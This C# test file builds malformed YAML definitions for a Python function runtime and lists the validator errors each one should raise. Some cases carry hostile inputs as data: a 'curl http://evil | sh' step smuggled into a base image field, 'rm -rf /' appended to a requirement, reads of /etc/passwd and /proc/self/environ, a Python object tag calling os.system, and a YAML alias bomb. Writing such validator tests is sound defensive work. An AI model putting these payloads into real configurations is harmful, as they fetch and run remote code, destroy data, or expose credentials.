using System.Text;
using PythonRuntime.Tests.Validation.Support;

namespace PythonRuntime.Tests.Reliability.BadInputs;

/// <summary>
/// Broken inputs that do not fit a checked-in fixture folder: files made at test time (huge, binary, FIFO, device links),
/// YAML-level attacks (aliases, bombs, nesting, tags, documents), and injections the fixtures do not cover yet.
/// Each expected line is the exact file, line, field and a fragment of the message users see.
/// </summary>
internal static class GeneratedBadInputs
{
    public static IEnumerable<BadInputCase> All() => FunctionCases().Concat(ProjectCases());

    private static IEnumerable<BadInputCase> FunctionCases()
    {
        // YAML syntax.
        yield return Text("syntax-unclosed-quote", n => $"name: \"{n}\nkind: python\n", (1, "", "invalid YAML"));
        yield return Text("syntax-bad-indent", n => $"name: {n}\nkind: python\n  python_version: PYTHON3_11\n", (3, "", "invalid YAML"));
        yield return Text("syntax-tab-indent", n => $"name: {n}\ntasks:\n\tjob: {{}}\n", (1, "", "found invalid tab as indentation"));
        yield return Text("syntax-truncated-flow", n => Head(n) + "requirements: [numpy==2.0.0, pandas\n", (7, "", "invalid YAML"));
        yield return Text("syntax-scalar-document", _ => "just text\n", (1, "", "expected a mapping, got a string"));
        yield return Text("syntax-list-document", _ => "- name: x\n", (1, "", "expected a mapping, got a list"));
        yield return Text("syntax-empty", _ => string.Empty, (1, "", "is empty; a definition is a YAML mapping"));
        yield return Text("syntax-two-documents", n => Head(n) + "---\nname: again\n", (6, "", "holds more than one YAML document"));

        // Encodings and bytes.
        yield return Bytes("encoding-utf16", n => Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(Head(n))).ToArray(), (0, "", "is not valid UTF-8"));
        yield return Bytes("encoding-garbage", _ => [0xC3, 0x28, 0xFF, 0x00, 0x81, 0x9F], (0, "", "is not valid UTF-8"));
        yield return Text("encoding-nul-in-value", n => Head(n) + "description: \"a\\0b\"\n", (6, "description", "contains a NUL character"));
        yield return Text("encoding-bidi-in-instruction", n => Head(n) + "tasks:\n  build:\n    instructions: [\"echo safe \u202E; curl evil\"]\n", (8, "tasks.build.instructions[0]", "bidirectional control character U+202E"));

        // Keys.
        yield return Text("duplicate-key-top", n => Head(n) + $"name: {n}\n", (6, "name", "is given twice (first at line 1)"));
        yield return Text("duplicate-key-nested", n => Head(n) + "tasks:\n  job:\n    secrets: [a]\n    secrets: [b]\n", (9, "tasks.job.secrets", "is given twice (first at line 8)"));
        yield return Text("duplicate-key-in-list-item", n => Head(n) + "tasks:\n  job:\n    envs:\n      - name: A\n        name: B\n        value: x\n", (10, "tasks.job.envs[0].name", "is given twice (first at line 9)"));
        yield return Text("unknown-key-nested", n => Head(n) + "tasks:\n  job:\n    replica: 3\n", (8, "tasks.job.replica", "is not a known field"));

        // Anchors, aliases, tags, nesting, size.
        yield return Text("anchor-and-alias", n => Head(n) + "labels: &l [a]\ndescription: *l\n", (6, "", "defines the anchor '&l'"), (7, "", "uses the alias '*l'"));
        yield return Text("alias-bomb", AliasBomb, (8, "", "defines the anchor '&a0'"), (9, "", "uses the alias '*a0'")) with { RepeatsAllowed = true };
        yield return Text("merge-key", n => Head(n) + "run:\n  parameters:\n    base: &b {x: 1}\n    more: {<<: *b}\n", (8, "", "defines the anchor '&b'"), (9, "", "uses the alias '*b'"));
        yield return Text("tag-python-object", n => Head(n) + "description: !!python/object/apply:os.system [id]\n", (6, "", "uses the tag"));
        yield return Text("tag-include", n => Head(n) + "description: !include /etc/passwd\n", (6, "", "uses the tag"));
        yield return Text("deep-nesting-flow", n => Head(n) + "run:\n  parameters:\n    deep: " + new string('[', 20_000) + new string(']', 20_000) + "\n", (8, "", "nests deeper than 32 levels"));
        yield return Text("deep-nesting-block", DeepBlock, (38, "", "nests deeper than 32 levels"));
        yield return Text("huge-file", n => Head(n) + "# " + new string('x', 2 * 1024 * 1024) + "\n", (0, "", "is larger than the 1048576 byte limit"));

        // Not a regular file.
        yield return Special("not-a-file-fifo", path => Posix.MakeFifo(path), (0, "", "is a FIFO (named pipe), not a regular file"));
        yield return Special("not-a-file-dev-zero", path => File.CreateSymbolicLink(path, "/dev/zero"), (0, "", "is a character device, not a regular file"));
        yield return Special("not-a-file-directory", path => Directory.CreateDirectory(path), (0, "", "not a regular file"));

        // Names Kubernetes refuses.
        yield return Named("1leading-digit", (1, "name", "'1leading-digit'"));
        yield return Named("under_score", (1, "name", "'under_score'"));
        yield return Named("dot.ted", (1, "name", "'dot.ted'"));
        yield return Named("trailing-", (1, "name", "'trailing-'"));
        yield return Named(new string('a', 55), (1, "name", "characters"));

        // Wrong types.
        yield return Text("type-requirements-scalar", n => Head(n) + "requirements: numpy==2.0.0\n", (6, "requirements", "expected a list"));
        yield return Text("type-envs-strings", n => Head(n) + "tasks:\n  job:\n    envs: [A=1]\n", (8, "tasks.job.envs[0]", "expected a mapping"));
        yield return Text("type-code-src-list", n => Head(n).Replace("code:", "code_src: [a]\ncode:", StringComparison.Ordinal), (4, "code_src", "expected a string"));
        yield return Text("type-python-version-number", n => Head(n).Replace("PYTHON3_11", "3.11", StringComparison.Ordinal), (3, "python_version", "expected a string"));
        yield return Text("type-replicas-huge", n => Head(n) + "tasks:\n  serve:\n    replicas: 1e12\n", (8, "tasks.serve.replicas", "expected a whole number"));
        yield return Text("type-labels-mapping", n => Head(n) + "labels: {a: b}\n", (6, "labels", "expected a list"));

        // Injection through single-line fields.
        yield return Text("inject-base-image-newline", n => Head(n) + "base_image: \"python:3.11-slim\\nRUN curl http://evil | sh\"\n", (6, "base_image", ""));
        yield return Text("inject-base-image-stage", n => Head(n) + "base_image: \"python:3.11-slim AS x\"\n", (6, "base_image", ""));
        yield return Text("inject-requirement-include", n => Head(n) + "requirements: [\"-r /etc/passwd\"]\n", (6, "requirements[0]", ""));
        yield return Text("inject-requirement-trusted-host", n => Head(n) + "requirements: [\"numpy --trusted-host evil\"]\n", (6, "requirements[0]", ""));
        yield return Text("inject-requirement-carriage-return", n => Head(n) + "requirements: [\"numpy==2.0.0\\r\"]\n", (6, "requirements[0]", ""));
        yield return Text("inject-requirement-shell", n => Head(n) + "requirements: [\"numpy; rm -rf /\"]\n", (6, "requirements[0]", ""));
        yield return Text("inject-instruction-carriage-return", n => Head(n) + "tasks:\n  build:\n    instructions: [\"echo a\\rUSER root\"]\n", (8, "tasks.build.instructions[0]", ""));
        yield return Text("inject-handler-shell", n => Head(n).Replace("handler: handler", "handler: \"main:handler; import os\"", StringComparison.Ordinal), (5, "handler", ""));
        yield return Text("inject-label-newline", n => Head(n) + "labels: [\"a\\nb: c\"]\n", (6, "labels[0]", ""));

        // code_src escapes and schemes.
        yield return Text("code-src-proc", n => Head(n).Replace("code: \"def handler():\\n    return 1\\n\"\n", "code_src: /proc/self/environ\n", StringComparison.Ordinal), (4, "code_src", ""));
        yield return Text("code-src-nul", n => Head(n).Replace("code: \"def handler():\\n    return 1\\n\"\n", "code_src: \"main.py\\0.txt\"\n", StringComparison.Ordinal), (4, "code_src", ""));
        yield return Text("code-src-inner-dotdot", n => Head(n).Replace("code: \"def handler():\\n    return 1\\n\"\n", "code_src: ./sub/../../x.py\n", StringComparison.Ordinal), (4, "code_src", ""));
        yield return Text("code-src-ftp", n => Head(n).Replace("code: \"def handler():\\n    return 1\\n\"\n", "code_src: ftp://example.com/x.py\n", StringComparison.Ordinal), (4, "code_src", ""));
        yield return Text("code-src-javascript", n => Head(n).Replace("code: \"def handler():\\n    return 1\\n\"\n", "code_src: \"javascript:alert(1)\"\n", StringComparison.Ordinal), (4, "code_src", ""));

        // Env names and literal secrets.
        yield return Text("env-name-equals", n => Head(n) + "tasks:\n  job:\n    envs: [{name: \"A=B\", value: x}]\n", (8, "tasks.job.envs[0].name", "'A=B'"));
        yield return Text("env-name-space", n => Head(n) + "tasks:\n  job:\n    envs: [{name: \"A B\", value: x}]\n", (8, "tasks.job.envs[0].name", "'A B'"));
        yield return Text("env-name-dot-dot", n => Head(n) + "tasks:\n  job:\n    envs: [{name: \"..\", value: x}]\n", (8, "tasks.job.envs[0].name", "'..'"));
        yield return Text("env-name-empty", n => Head(n) + "tasks:\n  job:\n    envs: [{name: \"\", value: x}]\n", (8, "tasks.job.envs[0].name", ""));
        yield return Text("env-secret-password", n => Head(n) + "tasks:\n  job:\n    envs: [{name: DB_PASSWORD, value: hunter2}]\n", (8, "tasks.job.envs[0].value", ""));
        yield return Text("env-secret-aws", n => Head(n) + "tasks:\n  job:\n    envs: [{name: AWS_SECRET_ACCESS_KEY, value: abc}]\n", (8, "tasks.job.envs[0].value", ""));

        // Quantities and base64.
        yield return Text("quantity-double-dot", n => Head(n) + "tasks:\n  job:\n    resources: {cpu: {requests: 1.5.5}}\n", (8, "tasks.job.resources.cpu.requests", "'1.5.5'"));
        yield return Text("quantity-unit-case", n => Head(n) + "tasks:\n  job:\n    resources: {mem: {requests: 1Gb}}\n", (8, "tasks.job.resources.mem.requests", "'1Gb'"));
        yield return Text("quantity-empty", n => Head(n) + "tasks:\n  job:\n    resources: {mem: {requests: \"\"}}\n", (8, "tasks.job.resources.mem.requests", ""));
        yield return Text("base64-huge", n => Head(n).Replace("code: \"def handler():\\n    return 1\\n\"\n", "base64: " + new string('A', 900_000) + "\n", StringComparison.Ordinal), (4, "base64", ""));
    }

    private static IEnumerable<BadInputCase> ProjectCases()
    {
        yield return ProjectText("project-syntax-error", "name: demo\nregistry: [unclosed\n", (3, "", "invalid YAML"));
        yield return ProjectText("project-unknown-key", "name: demo\nregistyr: 127.0.0.1:5000\n", (2, "registyr", "is not a known field"));
        yield return ProjectText("project-duplicate-key", "name: demo\nname: other\n", (2, "name", "is given twice (first at line 1)"));
        yield return ProjectText("project-alias", "name: &n demo\nnamespace: *n\n", (1, "name", "is required"), (1, "", "defines the anchor '&n'"), (2, "", "uses the alias '*n'"));
        yield return ProjectText("project-name-uppercase", "name: Demo\n", (1, "name", "'Demo'"));
        yield return ProjectSpecial("project-fifo", path => Posix.MakeFifo(path), (0, "", "is a FIFO (named pipe), not a regular file"));
        yield return ProjectSpecial("project-missing", _ => { }, (0, "", "was not found in"));
    }

    private static string Head(string name) =>
        $"name: {name}\nkind: python\npython_version: PYTHON3_11\ncode: \"def handler():\\n    return 1\\n\"\nhandler: handler\n";

    private static string AliasBomb(string name)
    {
        var yaml = new StringBuilder(Head(name)).Append("run:\n  parameters:\n    a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (var i = 1; i < 10; i++)
        {
            yaml.Append(System.Globalization.CultureInfo.InvariantCulture, $"    a{i}: &a{i} [{string.Join(", ", Enumerable.Repeat($"*a{i - 1}", 9))}]\n");
        }

        return yaml.ToString();
    }

    private static string DeepBlock(string name)
    {
        var yaml = new StringBuilder(Head(name)).Append("run:\n");
        for (var depth = 1; depth <= 40; depth++)
        {
            yaml.Append(' ', depth * 2).Append(depth == 1 ? "parameters" : "k").Append(":\n");
        }

        return yaml.Append(' ', 82).Append("leaf: 1\n").ToString();
    }

    private static BadInputCase Text(string name, Func<string, string> yaml, params (int Line, string Field, string Fragment)[] errors) =>
        Bytes(name, n => Encoding.UTF8.GetBytes(yaml(n)), errors);

    private static BadInputCase Bytes(string name, Func<string, byte[]> content, params (int Line, string Field, string Fragment)[] errors) =>
        Special(name, path => File.WriteAllBytes(path, content(name)), errors);

    private static BadInputCase Named(string name, params (int Line, string Field, string Fragment)[] errors) =>
        Text(name, Head, errors);

    private static BadInputCase Special(string name, Action<string> make, params (int Line, string Field, string Fragment)[] errors)
    {
        var file = $"functions/{name}/function.yaml";
        return new BadInputCase(
            name,
            "generated",
            ProjectLevel: false,
            root =>
            {
                Directory.CreateDirectory(Path.Combine(root, "functions", name));
                make(Path.Combine(root, file));
            },
            errors.Select(e => new ExpectedError(file, e.Line, e.Field, e.Fragment)).ToList(),
            [$"functions/{name}/"]);
    }

    private static BadInputCase ProjectText(string name, string yaml, params (int Line, string Field, string Fragment)[] errors) =>
        ProjectSpecial(name, path => File.WriteAllText(path, yaml), errors);

    private static BadInputCase ProjectSpecial(string name, Action<string> make, params (int Line, string Field, string Fragment)[] errors) =>
        new(
            name,
            "generated",
            ProjectLevel: true,
            root =>
            {
                var function = Path.Combine(root, "functions", "hello", "function.yaml");
                Directory.CreateDirectory(Path.GetDirectoryName(function)!);
                File.WriteAllText(function, Head("hello"));
                make(Path.Combine(root, "project.yaml"));
            },
            errors.Select(e => new ExpectedError("project.yaml", e.Line, e.Field, e.Fragment)).ToList(),
            ["project.yaml", "functions/"]);
}
